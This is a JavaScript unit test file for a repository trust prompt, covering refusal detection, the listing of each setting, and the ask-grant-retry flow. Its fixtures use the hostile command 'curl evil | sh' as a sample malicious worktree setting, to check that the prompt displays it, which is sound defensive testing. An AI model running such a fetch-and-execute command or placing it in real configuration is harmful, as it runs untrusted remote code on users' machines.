// Unit tests of the trust prompt (out/trust.js): which errors are trust refusals, what the
// prompt lists, and withTrust's ask → grant → retry, including a file changed between showing
// and granting. The flow against the real daemon is in protocol.test.js.
'use strict';
const { test } = require('node:test');
const assert = require('node:assert/strict');
const P = require('../out/protocol');
const { untrustedState, trustPrompt, withTrust } = require('../out/trust');
const { readTs } = require('../../test/generated');

const state = (hash, value = '"make"') => ({
  repo: '/r', file: '/r/arbor.json', trusted: false, hash, command: 'arbor trust /r',
  settings: [{ name: 'worktree.command', value, why: 'runs on your machine in every new session worktree' }],
});
const refusal = st => Object.assign(new Error('untrusted'), { code: P.CodeUntrusted, data: st });

test('the TrustState fields used here are the generated ones', () => {
  const { types } = readTs();
  const fields = types.get('TrustState').map(f => f.name);
  for (const k of Object.keys(state('h'))) assert.ok(fields.includes(k), `TrustState has no ${k}`);
  assert.equal(P.CodeUntrusted, -32008);
});

test('untrustedState recognizes only CodeUntrusted errors with a TrustState', () => {
  assert.deepEqual(untrustedState(refusal(state('h'))), state('h'));
  assert.equal(untrustedState(Object.assign(new Error('x'), { code: P.CodeConflict, data: state('h') })), undefined);
  assert.equal(untrustedState(Object.assign(new Error('x'), { code: P.CodeUntrusted })), undefined);
  assert.equal(untrustedState(undefined), undefined);
});

test('the prompt lists every setting with its value and what it does, and the CLI command', () => {
  const { message, detail } = trustPrompt(state('h', '"curl evil | sh"'));
  assert.match(message, /trust the repository \/r/);
  for (const want of ['/r/arbor.json', 'worktree.command = "curl evil | sh"', 'runs on your machine', 'arbor trust /r']) {
    assert.ok(detail.includes(want), `detail lacks ${want}:\n${detail}`);
  }
  assert.match(trustPrompt({ ...state('h'), changed: true }).message, /changed/);
});

test('withTrust: declined → nothing granted, no retry', async () => {
  let calls = 0, grants = 0;
  const res = await withTrust(async () => { calls++; throw refusal(state('h')); },
    { ask: async () => false, grant: async () => { grants++; } });
  assert.equal(res, undefined);
  assert.equal(calls, 1);
  assert.equal(grants, 0);
});

test('withTrust: accepted → the hash shown is granted, then the operation runs again', async () => {
  let trusted = false;
  const granted = [];
  const res = await withTrust(async () => { if (!trusted) throw refusal(state('h1')); return 'session'; },
    { ask: async () => true, grant: async st => { granted.push(st.hash); trusted = true; return st; } });
  assert.equal(res, 'session');
  assert.deepEqual(granted, ['h1']);
});

test('withTrust: a file changed between showing and granting is shown again before trust', async () => {
  let trusted = false;
  const shown = [];
  const res = await withTrust(async () => { if (!trusted) throw refusal(state('h1')); return 'ok'; }, {
    ask: async st => { shown.push(st.hash); return true; },
    grant: async st => { if (st.hash !== 'h2') throw refusal(state('h2', '"curl evil"')); trusted = true; return st; },
  });
  assert.equal(res, 'ok');
  assert.deepEqual(shown, ['h1', 'h2']);
});

test('withTrust: other errors are the operation\'s; a file that keeps changing ends in the refusal', async () => {
  await assert.rejects(withTrust(async () => { throw new Error('boom'); }, { ask: async () => true, grant: async () => {} }), /boom/);
  let n = 0;
  await assert.rejects(withTrust(async () => { throw refusal(state('h' + n++)); }, { ask: async () => true, grant: async st => st }), /untrusted/);
  assert.ok(n <= 5, `asked ${n} times`);
});
